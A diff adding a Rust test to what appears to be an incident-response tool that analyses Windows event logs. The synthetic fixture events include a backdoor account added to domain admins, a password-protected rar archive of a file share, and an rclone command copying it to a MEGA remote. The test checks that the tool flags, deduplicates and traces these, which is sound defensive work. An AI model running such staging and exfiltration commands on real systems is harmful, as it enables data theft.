@@ -571,3 +571,119 @@ fn mass_deployed_task_marks_every_host_it_reached() {
         .unwrap();
     assert_eq!(t.command.as_deref(), Some("C:\\Windows\\Temp\\x.exe"));
 }
+
+#[test]
+fn accounts_groups_and_duplicated_process_logs() {
+    let mut b = common::scenario(true);
+    let sec = "Security";
+    // A backdoor: created, then added to the domain admins, by presta.maint.
+    b.ev(
+        common::t(15, 3, 0),
+        "DC01",
+        sec,
+        Some(4720),
+        &[
+            ("TargetUserName", "svc_sauvegarde"),
+            ("SubjectUserName", "presta.maint"),
+        ],
+    );
+    b.ev(
+        common::t(15, 3, 1),
+        "DC01",
+        sec,
+        Some(4728),
+        &[
+            ("TargetUserName", "Admins du domaine"),
+            ("MemberName", "CN=svc_sauvegarde,CN=Users,DC=ccpab,DC=local"),
+            ("SubjectUserName", "presta.maint"),
+        ],
+    );
+    b.matched(common::rule(
+        "Member Added to a Privileged Domain Group",
+        Level::High,
+        &["attack.persistence", "attack.t1098"],
+    ));
+    // A new member of staff the same week: created only.
+    b.ev(
+        common::t(15, 9, 0),
+        "DC01",
+        sec,
+        Some(4720),
+        &[
+            ("TargetUserName", "lena.kerboul"),
+            ("SubjectUserName", "adm.tech01"),
+        ],
+    );
+    // The rar command logged twice: Security 4688 and Sysmon 1.
+    b.ev(
+        common::t(15, 22, 0),
+        "SRV-FIC01",
+        sec,
+        Some(4688),
+        &[
+            ("NewProcessName", "C:\\PerfLogs\\rar.exe"),
+            (
+                "CommandLine",
+                "rar.exe a -hpS3cret C:\\PerfLogs\\cias.rar D:\\Partages\\CIAS",
+            ),
+            ("NewProcessId", "0x1f4"),
+            ("SubjectUserName", "presta.maint"),
+        ],
+    );
+    // A folder upload that carries the archive made in it.
+    b.ev(
+        common::t(15, 23, 0),
+        "SRV-FIC01",
+        "Microsoft-Windows-Sysmon/Operational",
+        Some(1),
+        &[
+            ("Image", "C:\\PerfLogs\\rclone.exe"),
+            (
+                "CommandLine",
+                "rclone.exe copy C:\\PerfLogs\\ mega:second -q",
+            ),
+            ("User", "CCPAB\\presta.maint"),
+        ],
+    );
+    let s = common::run(&b);
+    assert!(
+        !s.accounts.iter().any(|a| a.name == "admins du domaine"),
+        "a group is not an account"
+    );
+    let bd = s
+        .accounts
+        .iter()
+        .find(|a| a.name == "svc_sauvegarde")
+        .unwrap();
+    assert_eq!(bd.compromised, Compromise::Yes);
+    assert!(bd.created_during_attack);
+    assert_eq!(bd.added_to_groups, vec!["Admins du domaine"]);
+    assert!(s
+        .containment
+        .iter()
+        .any(|a| a.kind == ActionKind::DeleteAccount && a.target == "svc_sauvegarde"));
+    let lena = s
+        .accounts
+        .iter()
+        .find(|a| a.name == "lena.kerboul")
+        .unwrap();
+    assert_eq!(lena.compromised, Compromise::Suspected);
+    assert!(lena.compromise_reasons[0].contains("to check"));
+    assert!(!s.containment.iter().any(|a| a.target == "lena.kerboul"));
+    let rars = s
+        .processes
+        .iter()
+        .filter(|p| p.image.to_lowercase().ends_with("rar.exe"))
+        .count();
+    assert_eq!(rars, 1, "4688 and Sysmon 1 of one process are one process");
+    let second = s
+        .data_exposure
+        .iter()
+        .find(|d| d.destinations.contains(&"mega:second".to_string()))
+        .expect("folder upload");
+    assert_eq!(
+        second.store.as_deref(),
+        Some("CIAS"),
+        "C:\\PerfLogs\\ holds cias.rar"
+    );
+}
